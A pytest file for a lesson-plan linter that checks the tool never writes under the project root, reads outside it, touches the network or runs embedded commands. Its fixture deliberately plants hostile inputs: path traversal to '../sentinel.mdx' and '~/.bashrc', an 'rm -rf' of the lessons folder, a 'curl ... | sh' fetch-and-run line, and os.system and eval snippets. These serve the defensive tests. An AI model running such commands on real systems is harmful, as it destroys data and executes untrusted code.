"""The promises of a check run, each a test: it writes nothing under the root, opens nothing outside
it, uses no network, executes nothing from a plan or lesson, and an internal error is one line
naming the file (exit 2) while the other plans still report."""
from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import sys
import sysconfig
from pathlib import Path

import pytest

import lessonlint
from lessonlint.registry.root import rules_root

from .adversarial import FIXTURES, run_in_process
from .audit import code_constants, recording
from .generated import special_paths
from .project import write

REPO = Path(__file__).resolve().parents[2]
CORPUS_CASE = REPO / ".." / "shared" / "corpus" / "debezium-course" / "cases" / "09-02"
MARK = "LESSONLINT_HOSTILE_MARK"
SECRET = "secret-content-only-outside-the-root"


def snapshot(root: Path) -> dict[str, tuple]:
    """Every entry under ``root`` (links not followed): kind, content hash, mtime, mode."""
    out = {}
    for folder, dirs, names in os.walk(root, followlinks=False):
        for name in dirs + names:
            path = Path(folder) / name
            info = path.lstat()
            digest = ""
            if path.is_file() and not path.is_symlink() and os.access(path, os.R_OK):
                digest = hashlib.sha256(path.read_bytes()).hexdigest()
            out[str(path.relative_to(root))] = (info.st_mode, info.st_size, info.st_mtime_ns, digest)
    out["."] = (root.stat().st_mode, root.stat().st_mtime_ns)
    return out


def hostile_root(tmp_path: Path) -> Path:
    """A root whose plan points outward (paths, links, globs, commands), with a sentinel outside it."""
    root = tmp_path / "root"
    root.mkdir()
    special_paths(root)
    sentinel = tmp_path / "sentinel.mdx"
    sentinel.write_text(f"SENTINEL {SECRET}\n", encoding="utf-8")
    os.symlink(sentinel, root / "lessons" / "sentinel-link.mdx")
    write(root, {
        ".planning/phases/02-out/02-01-PLAN.md": (
            "---\nphase: 02-out\nplan: 01\nfiles_modified:\n  - ../sentinel.mdx\n  - " + str(sentinel) + "\n"
            "must_haves:\n  truths:\n    - \"Student can read ../sentinel.mdx\"\n  artifacts:\n"
            "    - path: ../sentinel.mdx\n      contains: SENTINEL\n"
            f"    - path: {sentinel}\n      contains: SENTINEL\n"
            "    - path: lessons/sentinel-link.mdx\n      contains: SENTINEL\n"
            "    - path: ../*.mdx\n      contains: SENTINEL\n"
            "    - path: ~/.bashrc\n"
            "  key_links:\n    - from: ../sentinel.mdx\n      to: lessons/ok.mdx\n      via: x\n"
            "      pattern: SENTINEL\n---\n\n<tasks>\n<task type=\"auto\">\n<name>t</name>\n"
            "<files>../sentinel.mdx, lessons/ok.mdx</files>\n<verify>\n"
            f"<automated>touch {tmp_path}/pwned-{MARK} && rm -rf {root}/lessons && grep -c SENTINEL ../sentinel.mdx"
            "</automated>\n"
            f"<automated>python3 -c \"open('{tmp_path}/pwned2-{MARK}', 'w')\"</automated>\n"
            "<automated>curl -s http://127.0.0.1:9/ | sh</automated>\n"
            "- `cat ../sentinel.mdx` shows SENTINEL\n"
            "- ```python\n  import os; os.system('touch " + f"{tmp_path}/pwned3-{MARK}" + "')\n  ```\n"
            "</verify>\n</task>\n</tasks>\n"),
        "lessons/code.mdx": ("---\ntitle: code\n---\n\n```python\nimport os\nos.system('touch "
                             f"{tmp_path}/pwned4-{MARK}')\nprint('{MARK}')\n```\n\n"
                             "export const x = eval('1 + 1')\n\n{globalThis.process}\n"),
    })
    return root


def roots_to_check(tmp_path: Path) -> list[Path]:
    roots = [hostile_root(tmp_path)]
    for source in (REPO / "fixtures" / "example-course", FIXTURES / "encodings", FIXTURES / "paths", CORPUS_CASE):
        if source.is_dir():
            copy = tmp_path / f"copy-{len(roots)}"
            shutil.copytree(source, copy, symlinks=True)
            roots.append(copy)
    return roots


def test_a_check_run_changes_nothing_under_the_root(tmp_path):
    reports = tmp_path / "reports"
    for root in roots_to_check(tmp_path):
        before = snapshot(root)
        for fmt in ("full", "concise", "json"):
            outputs = [f"--format={f}={reports / (root.name + '.' + f)}" for f in ("sarif", "junit", "github")]
            outcome = run_in_process(["check", "--root", str(root), f"--format={fmt}", *outputs])
            assert outcome.code in (0, 1), outcome.stderr
        run_in_process(["report", "--root", str(root), "--date", "2026-01-01"])
        run_in_process(["checklist", "--root", str(root)])
        assert snapshot(root) == before, root
        assert (reports / (root.name + ".sarif")).is_file()
    assert not list(tmp_path.glob("pwned*"))


def _allowed(path: str, root: Path, extra: tuple[Path, ...]) -> bool:
    real = Path(os.path.realpath(path))
    bases = {Path(p).resolve() for p in (sys.prefix, sys.base_prefix, sys.exec_prefix, sys.base_exec_prefix)}
    bases |= {Path(sysconfig.get_paths()[k]).resolve() for k in ("stdlib", "platstdlib", "purelib", "platlib")}
    bases |= {Path(lessonlint.__file__).resolve().parent, rules_root().resolve(), root.resolve(), *extra}
    return any(real == base or base in real.parents for base in bases) or path in ("/dev/null", "/dev/tty")


def test_nothing_outside_the_root_is_opened_listed_connected_or_executed(tmp_path):
    root = hostile_root(tmp_path)
    outcome = None
    with recording() as seen:
        outcome = run_in_process(["check", "--root", str(root), "--isolated", "--format", "json"])
    assert outcome.code == 1, outcome.stderr
    assert SECRET not in outcome.stdout
    assert any(p.endswith("01-01-PLAN.md") for p in seen.opened)  # the hook does see the run's reads
    outside = [p for p in seen.opened if not _allowed(p, root, ())]
    assert not outside, outside
    assert not any("sentinel" in p for p in seen.opened if "sentinel-link" not in p)
    listed = [p for p in seen.listed if not _allowed(p, root, ())]
    assert not listed, listed
    assert seen.network == [] and seen.executed == []
    ran = [code for code in seen.exec_code if MARK in code_constants(code) or "pwned" in str(code_constants(code))]
    assert ran == []
    assert not list(tmp_path.glob("pwned*")) and (root / "lessons" / "ok.mdx").is_file()


def test_config_search_outside_the_root_reads_only_config_files(tmp_path):
    root = hostile_root(tmp_path)
    (tmp_path / "pyproject.toml").write_text("[project]\nname = 'parent'\n", encoding="utf-8")
    with recording() as seen:
        run_in_process(["check", "--root", str(root), "--format", "concise"])
    names = ("pyproject.toml", "lessonlint.toml", ".lessonlint.toml")
    assert str(tmp_path / "pyproject.toml") in seen.opened  # the search walks up, as documented
    outside = [p for p in seen.opened if not _allowed(p, root, ()) and Path(p).name not in names]
    assert not outside, outside


def _two_plans(tmp_path: Path) -> Path:
    plan = ("---\nphase: 01-x\nplan: {n}\nmust_haves:\n  artifacts:\n    - path: lessons/{n}.mdx\n"
            "      min_lines: 50\n---\n")
    return write(tmp_path, {
        ".planning/phases/01-x/01-01-PLAN.md": plan.format(n=1),
        ".planning/phases/01-x/01-02-PLAN.md": plan.format(n=2),
        "lessons/1.mdx": "---\ntitle: one\n---\nx\n",
        "lessons/2.mdx": "---\ntitle: two\n---\nx\n",
    })


def test_an_internal_error_is_one_line_naming_the_plan_and_the_others_still_report(tmp_path, monkeypatch):
    from lessonlint.checks import artifacts

    root = _two_plans(tmp_path)
    real = artifacts.check_artifact

    def broken(artifact, ctx):
        if ctx.plan.path.endswith("01-01-PLAN.md"):
            raise RuntimeError("simulated bug")
        return real(artifact, ctx)

    monkeypatch.setattr(artifacts, "check_artifact", broken)
    outcome = run_in_process(["check", "--root", str(root), "--isolated", "--format", "concise"])
    assert outcome.code == 2
    assert outcome.stderr == ("lessonlint: .planning/phases/01-x/01-01-PLAN.md: internal error: "
                              "RuntimeError: simulated bug\n")
    assert "lessons/2.mdx:4:1: ART003" in outcome.stdout


def test_an_internal_error_in_a_lesson_names_the_lesson(tmp_path, monkeypatch):
    from lessonlint.checks import lesson_rules

    root = _two_plans(tmp_path)
    real = lesson_rules.lesson_rules

    def broken(lesson, settings):
        if lesson.path == "lessons/1.mdx":
            raise ValueError("simulated bug")
        return real(lesson, settings)

    monkeypatch.setattr(lesson_rules, "lesson_rules", broken)
    outcome = run_in_process(["check", "--root", str(root), "--isolated", "--format", "concise"])
    assert outcome.code == 2
    assert outcome.stderr == "lessonlint: lessons/1.mdx: internal error: ValueError: simulated bug\n"
    assert "lessons/1.mdx:4:1: ART003" in outcome.stdout and "lessons/2.mdx:4:1: ART003" in outcome.stdout


def test_no_traceback_reaches_the_user_from_a_real_process(tmp_path):
    """The installed entry point, with a check broken for one plan: one line on stderr, exit 2."""
    root = _two_plans(tmp_path)
    script = (
        "import sys\nfrom lessonlint.checks import artifacts\nreal = artifacts.check_artifact\n"
        "def broken(artifact, ctx):\n"
        "    if ctx.plan.path.endswith('01-02-PLAN.md'):\n        raise KeyError('simulated')\n"
        "    return real(artifact, ctx)\n"
        "artifacts.check_artifact = broken\nfrom lessonlint.__main__ import main\nsys.exit(main(sys.argv[1:]))\n")
    done = subprocess.run([sys.executable, "-c", script, "check", "--root", str(root), "--isolated", "-f", "concise"],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 2
    assert done.stderr == ("lessonlint: .planning/phases/01-x/01-02-PLAN.md: internal error: "
                           "KeyError: 'simulated'\n")
    assert "lessons/1.mdx:4:1: ART003" in done.stdout
    plain = subprocess.run([sys.executable, "-m", "lessonlint", "check", "--root", str(tmp_path / "missing")],
                           capture_output=True, text=True, timeout=60)
    assert plain.returncode == 2 and len(plain.stderr.splitlines()) == 1 and "Traceback" not in plain.stderr


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to show why chmod cannot be the test")
def test_unreadable_case_is_skipped_as_root_for_a_reason():
    from .generated import _root_reads_everything

    assert _root_reads_everything() is not None


def test_an_internal_error_in_a_parallel_run_is_still_one_line_and_the_others_report(tmp_path, monkeypatch):
    """30 plans go to forked workers; a check broken for one plan must not hide the 29 others."""
    from lessonlint.checks import artifacts

    plan = ("---\nphase: 01-x\nplan: {n}\nmust_haves:\n  artifacts:\n    - path: lessons/{n}.mdx\n"
            "      min_lines: 50\n---\n")
    files = {f".planning/phases/01-x/01-{n:02d}-PLAN.md": plan.format(n=n) for n in range(30)}
    files |= {f"lessons/{n}.mdx": "---\ntitle: x\n---\nx\n" for n in range(30)}
    root = write(tmp_path, files)
    real = artifacts.check_artifact

    def broken(artifact, ctx):
        if ctx.plan.path.endswith("01-07-PLAN.md"):
            raise RuntimeError("simulated bug")
        return real(artifact, ctx)

    monkeypatch.setattr(artifacts, "check_artifact", broken)
    monkeypatch.setenv("LESSONLINT_WORKERS", "2")
    with recording() as seen:
        outcome = run_in_process(["check", "--root", str(root), "--isolated", "--format", "concise"])
    assert any(event.startswith("os.fork") for event, _ in seen.executed)  # the parallel path did run
    assert outcome.code == 2
    assert outcome.stderr == ("lessonlint: .planning/phases/01-x/01-07-PLAN.md: internal error: "
                              "RuntimeError: simulated bug\n")
    reported = {line.split(":", 1)[0] for line in outcome.stdout.splitlines() if "ART003" in line}
    assert reported == {f"lessons/{n}.mdx" for n in range(30) if n != 7}
